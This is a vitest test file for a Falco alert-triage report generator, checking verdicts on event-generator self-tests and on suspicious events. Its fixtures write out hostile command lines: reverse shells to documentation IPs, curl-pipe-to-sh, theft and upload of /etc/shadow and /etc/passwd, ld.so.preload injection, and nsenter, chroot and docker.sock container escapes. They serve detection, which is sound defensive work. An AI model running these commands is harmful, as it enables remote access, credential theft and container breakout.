import { describe, expect, test } from 'vitest'
import type { FieldValue } from '../../src/domain/event.ts'
import { problemsIn } from '../../src/report/verify.ts'
import { anEvent, morning } from '../event.ts'
import { alertOf, bareEvent, bucketPolicy, commandsOf, dossierOf, materialOf, reportOn, secretRead, selfTest, textOf } from './material.ts'

describe("a report on a run of Falco's event generator", () => {
  const report = reportOn(selfTest)
  const verdict = textOf(report, 'Verdict')
  const assessment = textOf(report, 'Assessment')

  test('says that it is very likely a self-test, how sure that is, and why not certain', () => {
    expect(verdict).toContain('Very likely a Falco self-test with the event generator, and benign if somebody ran it.')
    expect(verdict).toMatch(
      /Confidence: high, because two marks .* nothing speaks against it; not certain, because the name .* can be forged/,
    )
  })

  test('shows the marks that it stands on: the file, the parent, and the action made for this rule', () => {
    expect(verdict).toContain('falco-event-generator-syscall-ExecutionFromDevShm-')
    expect(verdict).toContain('syscall.ExecutionFromDevShm is made to set off this very rule')
    expect(verdict).toContain('proc.pname is event-generator')
  })

  test('tells the shell from the binary behind it and from the script that it was given', () => {
    expect(assessment).toContain('The process is called sh; /bin/busybox is the binary behind it')
    expect(assessment).toContain('Whether the script that it was given then ran, and how it ended, the event does not show.')
    expect(assessment).toContain('The result SUCCESS is that of the system call execve of sh')
  })

  test('names host, container, user, parent, command line, time and terminal', () => {
    const details = textOf(report, 'Event details')
    for (const line of [
      'Host: lab-1',
      'Container: peaceful_mestorf',
      'User: root',
      'Parent: event-generator',
      'Terminal: 34816 (/dev/pts/0)',
    ])
      expect(details).toContain(line)
    expect(details).toContain('Time: 2026-10-05T13:00:57.015051634Z (UTC, as all times in this report)')
    expect(details).toContain('Login session: -1 (no login session)')
  })

  test('maps it to T1059.004, by the tags and nothing else', () => {
    expect(textOf(report, 'ATT&CK')).toContain('T1059.004 Unix Shell (https://attack.mitre.org/techniques/T1059/004)')
    expect(textOf(report)).not.toMatch(/T1566|phish/i)
  })

  test('looks at the container under Docker, and keeps containment for the case that nobody tested', () => {
    const commands = commandsOf(report)
    expect(commands).toContain('docker top c61b4b13ae44 -eo pid,ppid,user,etime,args')
    expect(textOf(report, 'Mitigation')).toContain('Containment, only if nobody stands by a test, in this order.')
  })

  test('sees in other alerts of the same container what fits a test run', () => {
    const other = (id: string, rule: string) => dossierOf({ ...selfTest, rule, time: '2026-10-05T13:00:47Z' }, id)
    const burst = reportOn(selfTest, { related: [other('a1', 'Fileless execution via memfd_create'), other('a2', 'Clear Log Activities')] })
    expect(textOf(burst, 'Related activity')).toContain(
      'Fileless execution via memfd_create on peaceful_mestorf, Warning, 10 s before: shares the same container; one event, open (alert a1).',
    )
    expect(textOf(burst, 'Verdict')).toContain("Within a minute 2 other rules fired with the generator's marks")
  })

  test('is not taken in by one mark alone', () => {
    const fields = new Map([...selfTest.fields, ['proc.pname', 'java'], ['proc.pcmdline', 'java -jar shop.jar']])
    const text = textOf(reportOn({ ...selfTest, fields }), 'Verdict')
    expect(text).toContain('Perhaps a Falco self-test')
    expect(text).toContain('Confidence: low, because only one mark')
  })

  test("is not taken in by somebody else's image of that name", () => {
    const fields = new Map([...selfTest.fields, ['container.image.repository', 'evil.example/falcosecurity/event-generator']])
    expect(textOf(reportOn({ ...selfTest, fields }), 'Verdict')).not.toContain("names the event generator's image")
  })

  const copied = (fields: Readonly<Record<string, string>>) =>
    reportOn({ ...selfTest, fields: new Map([...selfTest.fields, ...Object.entries(fields)]) })
  const file = '/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-Qx7abc.sh'

  test('is doubted when the event shows what the generator does not do, whatever names it bears', () => {
    const line = 'sh -c bash -i >& /dev/tcp/203.0.113.24/4444'
    const doubtful = copied({ 'proc.cmdline': line, 'container.image.repository': 'falcosecurity/event-generator' })
    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(doubtful, 'Verdict')).toContain('Against it: What the command line asks for opens a network connection')
  })

  test("is doubted even in the generator's own action, where something is fetched and run behind its file", () => {
    const doubtful = copied({ 'proc.cmdline': `sh -c ${file}; curl http://198.51.100.9/x | sh` })
    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(doubtful, 'Verdict')).toContain('Against it: What the command line asks for runs what it fetches')
    expect(textOf(doubtful)).not.toContain('benign if somebody ran it')
  })

  test("is doubted in an image that is not the generator's", () => {
    const doubtful = copied({ 'container.image.repository': 'registry.example.com/shop/checkout' })
    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(doubtful, 'Verdict')).toContain(
      "Against it: The container's image is registry.example.com/shop/checkout, which is not the event generator's.",
    )
    expect(textOf(doubtful, 'Verdict')).toContain('Confidence: low, because something speaks against a test')
  })

  test("is doubted where the command line asks for more than the generator's file", () => {
    expect(copied({ 'proc.cmdline': `sh -c ${file}; id` }).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
  })

  const generators = { 'container.image.repository': 'docker.io/falcosecurity/event-generator' }
  const marked = (rule: string, fields: Readonly<Record<string, FieldValue>>) =>
    reportOn(bareEvent({ rule, tags: [] }, { 'container.id': 'host', 'proc.pname': 'event-generator', ...fields }))

  test.each<[string, string, Readonly<Record<string, FieldValue>>]>([
    [
      'credentials packed into a file of its name',
      'Read sensitive file untrusted',
      {
        'proc.name': 'tar',
        'proc.cmdline': 'tar czf /tmp/falco-event-generator-syscall-Foo-1.tgz /etc/shadow /root/.ssh',
        'fd.name': '/etc/shadow',
      },
    ],
    [
      'a file of its name copied away',
      'Launch Remote File Copy Tools in Container',
      { 'proc.name': 'scp', 'proc.cmdline': 'scp /tmp/falco-event-generator-syscall-A1-x root@203.0.113.4:/loot' },
    ],
    [
      'a redirect to a scheduled job',
      'Write below etc',
      {
        'proc.name': 'sh',
        'proc.cmdline': 'sh -c cat /tmp/falco-event-generator-syscall-WriteBelowEtc-1 > /etc/cron.d/x',
        'fd.name': '/etc/cron.d/x',
      },
    ],
    [
      'a download in its image',
      'Launch Ingress Remote File Copy Tools in Container',
      { ...generators, 'proc.name': 'wget', 'proc.cmdline': 'wget http://203.0.113.9/x -O /tmp/x' },
    ],
    [
      'an upload under a rule that it has no action for',
      'Unexpected outbound connection destination',
      {
        ...generators,
        'proc.name': 'curl',
        'proc.cmdline': 'curl https://203.0.113.44/upload -T /etc/passwd',
        'fd.name': '10.0.0.1:4000->203.0.113.44:443',
      },
    ],
    [
      "the action's command at another peer",
      'System procs network activity',
      { 'proc.name': 'sha1sum', 'proc.cmdline': 'sha1sum run ^helper.NetworkActivity$', 'fd.name': '10.0.0.1:4000->203.0.113.44:443' },
    ],
  ])('is doubted where it does not show the action made for its rule: %s', (_what, rule, fields) => {
    const doubtful = marked(rule, fields)
    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(doubtful, 'Verdict')).toContain('Against it: ')
    expect(textOf(doubtful)).not.toContain('benign if somebody ran it')
    expect(problemsIn(doubtful)).toEqual([])
  })

  test.each([
    ['its parent', { 'proc.pexepath': '/usr/bin/bash' }],
    ["its parent's command line", { 'proc.pcmdline': 'bash -i' }],
    ['itself', { 'proc.exepath': '/tmp/x/kworker' }],
  ])('is doubted where a binary belies a name: %s', (_whose, fields) => {
    const doubtful = copied(fields)
    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(doubtful, 'Verdict')).toContain('the one belies the other')
  })

  test('is not taken in by a field that Falco does not make', () => {
    const fields = { 'proc.pname': 'java', 'proc.pcmdline': 'java -jar x.jar', myimage: 'falcosecurity/event-generator' }
    expect(textOf(copied(fields), 'Verdict')).toContain('Confidence: low, because only one mark')
  })

  test('is not taken for granted in the audit log of Kubernetes, where the generator leaves no name of its own', () => {
    const pod = bareEvent(
      { rule: 'Create Privileged Pod', source: 'k8s_audit', tags: [] },
      {
        'ka.user.name': 'system:serviceaccount:default:web',
        'ka.target.name': 'falco-event-generator-k8saudit-CreatePrivilegedPod-x',
        'ka.target.namespace': 'kube-system',
        'ka.req.pod.containers.image': ['falcosecurity/event-generator'],
      },
    )
    expect(reportOn(pod).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
  })

  test.each<[string, Readonly<Record<string, FieldValue>>]>([
    [
      'Write below etc',
      {
        'proc.name': 'event-generator',
        'proc.cmdline': 'event-generator run syscall --all',
        'proc.exepath': '/bin/event-generator',
        'proc.pname': 'containerd-shim',
        'fd.name': '/etc/falco-event-generator-syscall-WriteBelowEtc-7550041968',
      },
    ],
    [
      'Unexpected UDP Traffic',
      { 'proc.name': 'nc', 'proc.cmdline': 'nc -u example.com 22', 'fd.name': '10.42.6.148:34025->203.0.113.185:22' },
    ],
    [
      'Debugfs Launched in Privileged Container',
      { 'proc.name': 'debugfs', 'proc.cmdline': 'debugfs -V', 'proc.exepath': '/usr/sbin/debugfs' },
    ],
  ])('is known by the action made for its rule: %s', (rule, fields) => {
    const honest = marked(rule, { 'container.id': 'c61b4b13ae44', ...generators, ...fields })
    expect(honest.verdict).toMatchObject({ label: 'Falco self-test', confidence: 'high' })
    expect(textOf(honest, 'Verdict')).toContain('is made to set off this very rule')
    expect(problemsIn(honest)).toEqual([])
  })

  test('is not taken in by a marked event of another command that joins the alert', () => {
    const fields = new Map([
      ...selfTest.fields,
      ['proc.cmdline', 'sh -c /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-1.sh /etc/shadow'],
    ])
    const events = [selfTest, { ...selfTest, fields }].map((event) => ({ event, receivedAt: morning, verdict: 'fold' as const }))
    expect(reportOn(selfTest, { events }).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
  })

  test('is not taken in by a test that opens an alert which other events then join', () => {
    const intruder = {
      ...selfTest,
      fields: new Map([
        ['proc.cmdline', '/dev/shm/.x'],
        ['proc.name', '.x'],
      ]),
    }
    const events = [selfTest, intruder].map((event) => ({ event, receivedAt: morning, verdict: 'fold' as const }))
    const folded = reportOn(selfTest, { events, alert: { ...alertOf(selfTest), count: 2 } })
    expect(folded.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(folded, 'Verdict')).toContain('1 of the 2 events looked at do not')
    expect(textOf(folded, 'Related activity')).toContain('1 other command line, for one /dev/shm/.x')
    expect(problemsIn(folded)).toEqual([])
  })
})

describe('a report says what the fields support', () => {
  const reported = (fields: Parameters<typeof anEvent>[0]) => reportOn(anEvent(fields))
  const assess = (fields: Parameters<typeof anEvent>[0]) => textOf(reported(fields), 'Verdict')
  const observe = (fields: Parameters<typeof anEvent>[0]) => textOf(reported(fields), 'Assessment')

  test('nothing that settles it: the verdict stays open, with low confidence either way', () => {
    expect(assess({})).toMatch(/Not settled by the event.*\nConfidence: low either way/)
  })

  test('a reverse shell in the command line is suspicious', () => {
    const text = assess({ fields: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444 0>&1' } })
    expect(text).toMatch(/^Suspicious until somebody explains it\.\nConfidence: medium/)
    expect(text).toContain('(/dev/tcp/203.0.113.24/4444)')
  })

  test('a shell beneath a web server is suspicious', () => {
    expect(assess({ fields: { 'proc.pname': 'php-fpm' } })).toContain('bash runs beneath php-fpm, a web server')
  })

  test.each([
    ['gunicorn', 'sh', true],
    ['nginx', 'perl', true],
    ['gunicorn', 'python3', false],
    ['apache2', 'perl', false],
  ])('what a web server starts by itself is no sign, the rest is: %s, %s', (server, name, isSign) => {
    const text = assess({ fields: { 'proc.pname': server, 'proc.name': name, 'proc.cmdline': name } })
    expect(text.includes(`${name} runs beneath ${server}`)).toBe(isSign)
  })

  test('a long beginning hides nothing of a command line', () => {
    const report = reported({ fields: { 'proc.cmdline': `bash -c : ${'a'.repeat(6_000)}; bash -i >& /dev/tcp/203.0.113.24/4444 0>&1` } })
    expect(textOf(report, 'Verdict')).toContain('(/dev/tcp/203.0.113.24/4444)')
    expect(problemsIn(report)).toEqual([])
  })

  test("what the parent's command line asks for is told as the parent's", () => {
    const fields = { 'proc.name': 'kworkerd', 'proc.cmdline': 'kworkerd', 'proc.pcmdline': 'sh -c curl -s http://203.0.113.9/x | sh' }
    expect(assess({ fields })).toContain("What the parent's command line asks for")
  })

  test('a binary that was added or changed after the image was built is suspicious, one that came with it is not', () => {
    const upper = { fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER', 'proc.exepath': '/tmp/x' } }
    expect(assess(upper)).toContain('it was added or changed after the image was built')
    expect(assess(upper)).not.toContain('did not come with the image')
    expect(reported(upper).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
    const lower = { fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER' } }
    expect(assess(lower)).toContain('Not settled')
    expect(observe(lower)).toContain('came with the image')
  })

  test('what was added where packages put their programs is less surely so: an installed package looks the same', () => {
    const added = (path: string) =>
      reported({ fields: { 'evt.arg.flags': 'EXE_UPPER_LAYER', 'proc.name': 'git', 'proc.exepath': path } }).verdict.confidence
    expect([added('/usr/bin/git'), added('/usr/local/bin/git')]).toEqual(['low', 'medium'])
    expect(assess({ fields: { 'evt.arg.flags': 'EXE_UPPER_LAYER', 'proc.exepath': '/usr/bin/git' } })).toContain(
      'a package installed since then looks the same',
    )
  })

  test.each(['EINPROGRESS', 'EALREADY', 'EISCONN'])('%s of a connection is no failed attempt', (result) => {
    expect(reported({ fields: { 'evt.type': 'connect', 'evt.res': result } }).verdict.label).toBe('not settled')
  })

  const refused = { 'evt.type': 'connect', 'evt.res': 'ECONNREFUSED', 'fd.name': '10.0.0.2:4444->203.0.113.3:443', 'fd.rport': 443 }

  test('a connection that was refused does not make the malware that tried it harmless', () => {
    const malware = { fields: { ...refused, 'proc.name': 'kinsing', 'proc.exepath': '/dev/shm/kinsing', 'proc.pname': 'nginx' } }
    expect(reported(malware).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
    expect(assess(malware)).toContain('The connection failed (ECONNREFUSED), but the process that tried it was running.')
    expect(assess(malware)).not.toContain('Whether it was wanted, the event does not settle')
    expect(reported({ fields: refused }).verdict.label).toBe('failed attempt')
  })

  test('an execve that failed is a failed attempt, and what else it shows is not called unsettled', () => {
    const failed = { fields: { 'evt.res': 'EACCES', 'proc.exepath': '/dev/shm/x' } }
    expect(reported(failed).verdict).toMatchObject({ label: 'failed attempt', confidence: 'high' })
    expect(assess(failed)).toContain('An attempt that failed (EACCES). What it shows besides is rare in ordinary operation')
    expect(assess(failed)).not.toContain('does not settle')
  })

  test('a file that could not be opened is not said to have been', () => {
    const text = assess({ fields: { 'evt.type': 'openat', 'evt.res': 'EACCES', 'proc.name': 'cat', 'fd.name': '/etc/shadow' } })
    expect(text).toContain('tried to open /etc/shadow')
  })

  test('an errno is a failed attempt, a connection under way is not', () => {
    expect(assess({ fields: { 'evt.res': 'EPERM' } })).toContain('An attempt that failed (EPERM)')
    expect(assess({ fields: { 'evt.type': 'connect', 'evt.res': 'EINPROGRESS' } })).toContain('Not settled')
  })

  test("the cloud's metadata service is named for what it hands out", () => {
    const fields = { 'evt.type': 'connect', 'fd.name': '10.0.0.4:50000->169.254.169.254:80', 'fd.rport': 80 }
    expect(assess({ fields })).toContain("The event names 169.254.169.254, the cloud's metadata service")
  })

  test('a turned down API request is a failed attempt', () => {
    expect(reportOn(secretRead).verdict).toMatchObject({ label: 'failed attempt', confidence: 'high' })
    expect(textOf(reportOn(secretRead), 'Verdict')).toContain('An attempt that failed (403)')
  })

  test('a bucket policy for everybody is suspicious, and is shown without braces', () => {
    const report = reportOn(bucketPolicy)
    expect(textOf(report, 'Verdict')).toContain('allows something to everybody')
    expect(textOf(report, 'Assessment')).toContain('Exposure, if the call succeeded: the bucket policy allows something to everybody')
    expect(textOf(report, 'Event details')).toContain('Statement: (Effect: Allow; Principal: *; Action: s3:GetObject)')
  })

  test('a request without credentials is suspicious, but not for what everybody may see', () => {
    const asked = (uri: string) =>
      reportOn(
        bareEvent(
          { rule: 'Anonymous Request Allowed', source: 'k8s_audit', tags: ['k8s'] },
          { 'ka.user.name': 'system:anonymous', 'ka.verb': 'get', 'ka.uri': uri, 'ka.response.code': '200' },
        ),
      )
    expect(asked('/api/v1/secrets').verdict.label).toBe('suspicious')
    expect(textOf(asked('/api/v1/secrets'), 'Assessment')).toContain(
      'Exposure: the API server carried out (200) a request without credentials',
    )
    expect(asked('/version').verdict.label).toBe('not settled')
    expect(textOf(asked('/version'), 'Assessment')).toContain('No vulnerability and no misconfiguration is shown')
    expect(textOf(asked('/version'), 'Conclusion')).toContain('ask whoever runs the API server')
    expect(textOf(asked('/api/v1/secrets'), 'Mitigation')).not.toMatch(/a role of its own|narrow an exception on ka\.user\.name/)
    expect(textOf(asked('/api/v1/secrets'), 'Mitigation')).toContain('narrow an exception on the exact ka.uri')
  })

  test.each([
    ["a miner's name", { 'proc.name': 'xmrig' }, 'xmrig bears the name of a known miner'],
    ['a program in shared memory', { 'proc.exepath': '/dev/shm/x' }, 'lies in shared memory'],
    ['a hidden program', { 'proc.exepath': '/opt/.x' }, 'is a hidden file'],
    [
      'a path that climbs',
      { 'proc.name': 'node', 'fd.nameraw': '/srv/app/public/../../../etc/passwd', 'fd.name': '/etc/passwd' },
      'was led up from its directory',
    ],
    ['credentials read with cat in a container', { 'proc.name': 'cat', 'fd.name': '/etc/shadow' }, 'which by its name holds credentials'],
  ])('%s is suspicious', (_what, fields, words) => {
    expect(reported({ fields }).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
    expect(assess({ fields })).toContain(words)
  })

  test.each([
    'socat TCP:198.51.100.184:4444 EXEC:/bin/bash,pty,stderr,setsid',
    'ncat --exec=/bin/sh 198.51.100.9 4444',
    'nc 198.51.100.9 4444 -c bash',
    'nc -e /bin/sh 198.51.100.9 4444',
    'bash -c curl "https://198.51.100.9/x?a=1&b=2" | bash',
    'sh -c echo aWQ= | base64 -d | bash',
    'sh -c echo /tmp/x.so >> /etc/ld.so.preload',
    'nsenter --target 1 --mount --pid -- bash',
    'nsenter -t 1 -m sh',
    'nsenter --mount=/proc/1/ns/mnt -- /bin/bash',
    'nsenter -m/host/proc/1/ns/mnt sh',
    'chroot /host',
    'sh -c chroot /mnt/host bash',
    'mount /dev/sda1 /mnt',
    'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json',
  ])('the command line %s in a container is suspicious', (line) => {
    expect(reported({ fields: { 'proc.cmdline': line } }).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
  })

  test.each([
    'nc -z db 5432',
    'curl https://example.com/x?a=1&b=2 -o x',
    'base64 -d key.b64',
    'socat TCP-LISTEN:80,fork TCP:web:80',
    'nsenter -t 12 -n ip a',
    'nsenter --net=/proc/1/ns/net ip a',
    'chroot /srv/jail sh',
    'mount -t tmpfs tmpfs /mnt',
    'mount /dev/nvme1n1 /var/lib/kubelet/plugins/x',
    'curl -s --unix-socket /var/run/docker.sock http://localhost/_ping',
    'curl --unix-socket /run/app.sock http://localhost/',
  ])('the command line %s is not', (line) => {
    expect(reported({ fields: { 'proc.cmdline': line } }).verdict.label).toBe('not settled')
  })

  test.each(['chroot /host', 'mount /dev/sda1 /mnt', 'curl --unix-socket /var/run/docker.sock http://localhost/containers/json'])(
    'what is a way out of a container is none on the host itself: %s',
    (line) => {
      expect(reported({ fields: { 'container.id': 'host', 'proc.cmdline': line } }).verdict.label).toBe('not settled')
    },
  )

  test('beside a grave sign nothing lulls: not that the shell came with the image, nor that there is no terminal', () => {
    const fields = { 'evt.arg.flags': 'EXE_LOWER_LAYER', 'proc.name': 'bash', 'proc.exepath': '/usr/bin/bash', 'proc.tty': 0 }
    const lulling = ['The executable came with the image', 'A reverse shell has none either']
    const told = (line: string) => lulling.filter((text) => observe({ fields: { ...fields, 'proc.cmdline': line } }).includes(text))
    expect(told('bash -c sleep 1')).toEqual(lulling)
    expect(told('bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')).toEqual([])
  })

  test('a command line that is a sign is not told among what would refute it', () => {
    const refuting = (line: string) =>
      textOf(reported({ rule: 'Run shell untrusted', fields: { 'proc.cmdline': line } }), 'Assessment').split('What would refute it')[1]
    expect(refuting('sh -c sleep 1')).toContain('Here proc.cmdline is')
    expect(refuting('bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')).not.toContain('Here proc.cmdline is')
  })

  test('to enter the namespaces of process 1 from the host itself is told and does not settle it', () => {
    const fields = { 'container.id': 'host', 'proc.cmdline': 'nsenter --target 1 --mount -- bash' }
    expect(observe({ fields })).toContain('asks nsenter for the namespaces of process 1. Falco saw it outside any container')
    expect(assess({ fields })).toContain('because the fields looked at do not settle it')
  })

  test.each([null, '', '<NA>'])('where container.id is %j, nobody knows whether it was in a container, and that is not denied', (id) => {
    const fields = { 'container.id': id, 'proc.cmdline': 'nsenter -t 1 -m sh' }
    expect(observe({ fields })).not.toContain('outside any container')
    expect(observe({ fields })).toContain('The event does not say in which container, if any: from one, that can be a way out')
    expect(reported({ fields }).verdict).toMatchObject({ label: 'suspicious', confidence: 'low' })
  })

  test('a file that was opened to be read is not told as changed, whatever the rule is called', () => {
    const opened = (flags: string | null) =>
      reported({
        rule: 'Config changed watch',
        fields: { 'evt.type': 'openat', 'fd.name': '/etc/ld.so.preload', 'proc.name': 'ls', 'evt.arg.flags': flags },
      }).verdict.label
    expect([opened('O_RDONLY|O_CLOEXEC'), opened('O_RDWR'), opened(null)]).toEqual(['not settled', 'suspicious', 'suspicious'])
  })

  test('a shell whose streams lead to a public address is suspicious, one that talks inside is not', () => {
    const joinedTo = (far: string) =>
      reported({ fields: { 'evt.type': 'dup2', 'proc.name': 'bash', 'fd.name': `10.0.0.4:50000->${far}:4444` } }).verdict.label
    expect([joinedTo('198.51.100.9'), joinedTo('10.0.0.9')]).toEqual(['suspicious', 'not settled'])
  })

  test('keys for logging in that no keeper of keys writes, and the preload list, are suspicious', () => {
    const wrote = (name: string, path: string, flags = 'O_WRONLY') =>
      reported({ fields: { 'evt.type': 'openat', 'proc.name': name, 'fd.name': path, 'evt.arg.flags': flags } }).verdict.label
    const keys = '/home/ops/.ssh/authorized_keys'
    expect([wrote('bash', keys), wrote('google_guest_ag', keys), wrote('bash', keys, 'O_RDONLY')]).toEqual([
      'suspicious',
      'not settled',
      'not settled',
    ])
    expect([wrote('cp', '/etc/ld.so.preload'), wrote('cp', '/etc/ld.so.preload', 'O_RDONLY')]).toEqual(['suspicious', 'not settled'])
  })

  test("a bucket opened to all of Google's users is suspicious and exposed", () => {
    const delta = '[{"action":"ADD","role":"roles/storage.objectViewer","member":"allUsers"}]'
    const rule = { rule: 'GCP Bucket configured to be public', source: 'gcp_auditlog', tags: [] }
    const report = reportOn(bareEvent(rule, { 'gcp.user': 'ana', 'gcp.policyDelta': delta }))
    expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
    expect(textOf(report, 'Assessment')).toContain('Exposure, if the call succeeded: a policy gives something to everybody')
  })

  test('a secret that was pushed is named by its kind and place, and to be revoked whoever explains it', () => {
    const found = { desc: 'AWS API Key', files: 'config.py', lines: '12' }
    const fields = Object.fromEntries(Object.entries(found).map(([name, value]) => [`github.diff.committed_secrets.${name}`, value]))
    const rule = { rule: 'Secret pushed into a public repository', source: 'github', tags: [] }
    const report = reportOn(bareEvent(rule, { 'github.user': 'dev1', ...fields }))
    expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
    expect(textOf(report, 'Verdict')).toContain('What was pushed holds what looks like AWS API Key, in config.py (line 12)')
    expect(textOf(report, 'Mitigation')).toContain('at once and whoever explains it')
  })

  test('the rule’s priority is no reason to wait where something grave is shown', () => {
    const report = reported({ priority: 'Notice', fields: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444 0>&1' } })
    expect(textOf(report, 'Conclusion')).toContain("go on with containment, whatever the rule's priority (Notice) says")
  })

  describe('access for everybody on Google Cloud', () => {
    const told = (fields: Readonly<Record<string, string>>, rule = 'GCP Bucket configured to be public') =>
      reportOn(bareEvent({ rule, source: 'gcp_auditlog', tags: [] }, { 'gcp.user': 'ana', ...fields }))
    const added = '{"action":"ADD","member":"allUsers","role":"roles/storage.admin"}'
    const removed = (member: string) => `{"action":"REMOVE","member":"${member}","role":"roles/viewer"}`

    test('is seen where it is added, whatever else is taken away', () => {
      const report = told({ 'gcp.policyDelta': `{"bindingDeltas":[${added},${removed('user:bo@example.com')}]}` })
      expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
      expect(textOf(report, 'Assessment')).toContain('The change gives a role to allUsers, which is everybody on the internet.')
      expect(told({ 'gcp.policyDelta': `[${removed('allUsers')}]` }).verdict.label).toBe('not settled')
    })

    test('is seen in a policy that was sent, and not in a word', () => {
      const policy = (member: string) => `{"policy":{"bindings":[{"role":"roles/viewer","members":["user:a@b.c","${member}"]}]}}`
      expect(told({ 'gcp.request': policy('allAuthenticatedUsers') }).verdict.label).toBe('suspicious')
      expect(told({ 'gcp.request': policy('user:allUsers@example.com') }).verdict.label).toBe('not settled')
      const title = told({ 'gcp.request': '{"title":"no allUsers role","x":1}' }, 'GCP IAM custom role modified')
      expect(title.verdict.label).toBe('not settled')
      expect(textOf(title)).not.toContain('Exposure')
    })
  })

  describe('a bucket policy', () => {
    const everybody = { Effect: 'Allow', Principal: { AWS: '*' }, Action: 's3:GetObject' }
    const told = (...statements: readonly Readonly<Record<string, FieldValue>>[]) =>
      reportOn({ ...bucketPolicy, fields: new Map([...bucketPolicy.fields, ['ct.request.policy', { Statement: statements }]]) })

    test('that denies everybody and allows one account opens nothing', () => {
      const deny = { Effect: 'Deny', Principal: '*', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }
      const own = { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::111122223333:root' }, Action: 's3:*' }
      const report = told(deny, own)
      expect(report.verdict.label).toBe('not settled')
      expect(textOf(report)).not.toMatch(/something to everybody/)
    })

    test('that allows everybody in one statement is open, among many and beside many principals', () => {
      const others = Array.from({ length: 80 }, (_, index) => ({ Sid: `s${index}`, Effect: 'Deny', Principal: '*', Action: 's3:*' }))
      const listed = { ...everybody, Principal: { AWS: ['arn:aws:iam::111122223333:root', '*'] } }
      const report = told(...others, listed)
      expect(report.verdict.label).toBe('suspicious')
      expect(textOf(report, 'Assessment')).toContain('allows something to everybody, without a condition.')
    })

    test('that has a condition is told with it, and opens nothing where that ties it to somebody', () => {
      const under = (operator: string, key: string, value: string) => told({ ...everybody, Condition: { [operator]: { [key]: value } } })
      const labels = [
        under('StringEquals', 'aws:PrincipalOrgID', 'o-1a2b3c'),
        under('IpAddress', 'aws:SourceIp', '203.0.113.0/24'),
        under('IpAddress', 'aws:SourceIp', '0.0.0.0/1'),
        under('StringNotEquals', 'aws:SourceVpce', 'vpce-1'),
        under('StringEqualsIfExists', 'aws:SourceVpce', 'vpce-1'),
        under('StringLike', 'aws:PrincipalArn', '*'),
        under('Bool', 'aws:SecureTransport', 'true'),
      ].map(({ verdict }) => verdict.label)
      expect(labels).toEqual(['not settled', 'not settled', 'suspicious', 'suspicious', 'suspicious', 'suspicious', 'suspicious'])
      const secure = textOf(under('Bool', 'aws:SecureTransport', 'true'), 'Assessment')
      expect(secure).toContain('allows something to everybody, under a condition that says when.')
      expect(textOf(under('StringEquals', 'aws:PrincipalOrgID', 'o-1a2b3c'))).not.toContain('Exposure')
    })

    test('that was cut on its way is not judged', () => {
      const cut = { ...bucketPolicy, fields: new Map([['ct.request.policy', '{"Statement":[{"Effect":"Allow","Principal":"*",[...]']]) }
      expect(reportOn(cut).verdict.label).toBe('not settled')
    })
  })

  describe('the root user of an account on AWS', () => {
    const told = (fields: Readonly<Record<string, FieldValue>>) =>
      textOf(reportOn(bareEvent({ rule: 'List Buckets', source: 'aws_cloudtrail', tags: [] }, fields)))

    test('is known by its ARN or by the kind of its identity, without a name', () => {
      expect(told({ 'ct.user': null, 'ct.user.arn': 'arn:aws:iam::111122223333:root' })).toContain("The caller is the account's root user")
      expect(told({ 'ct.user.identitytype': 'Root' })).toContain("The caller is the account's root user (Root)")
    })

    test('is none who is merely called root', () => {
      expect(told({ 'ct.user': 'root', 'ct.user.arn': 'arn:aws:iam::111122223333:user/root' })).not.toContain("account's root user")
      expect(told({ 'ct.user': 'root' })).not.toContain("account's root user")
    })
  })

  describe('without credentials', () => {
    const told = (rule: string, fields: Readonly<Record<string, FieldValue>>) =>
      reportOn(bareEvent({ rule, source: 'k8s_audit', tags: [] }, fields))

    test('an exec that was let through to a stream (101) is an exposure, and the binding behind it is closed', () => {
      const pod = { 'ka.target.resource': 'pods', 'ka.target.subresource': 'exec', 'ka.target.name': 'web', 'ka.target.namespace': 'prod' }
      const report = told('Attach/Exec Pod', { ...pod, 'ka.user.name': 'system:anonymous', 'ka.response.code': '101' })
      expect(textOf(report, 'Assessment')).toContain('Exposure: the API server carried out (101) a request without credentials')
      expect(textOf(report, 'Assessment')).not.toContain('No vulnerability')
      expect(textOf(report, 'Mitigation')).toMatch(/grep -E 'system:\(anonymous\|unauthenticated\)'[\s\S]*kubectl patch clusterrolebinding/)
    })

    test('a path that climbs out of what everybody may see is not taken for it', () => {
      const label = (uri: string) =>
        told('Anonymous Request Allowed', { 'ka.user.name': 'system:anonymous', 'ka.uri': uri, 'ka.response.code': 200 }).verdict.label
      const harmless = ['/version', '/version?timeout=32s', '/readyz?verbose', '/api/v1/namespaces/kube-public/configmaps/cluster-info']
      expect(harmless.map(label)).toEqual(harmless.map(() => 'not settled'))
      const others = ['/version/../api/v1/secrets', '/version/%2e%2e/api/v1/secrets', '/healthz/../api/v1/secrets', '/livez/etcd']
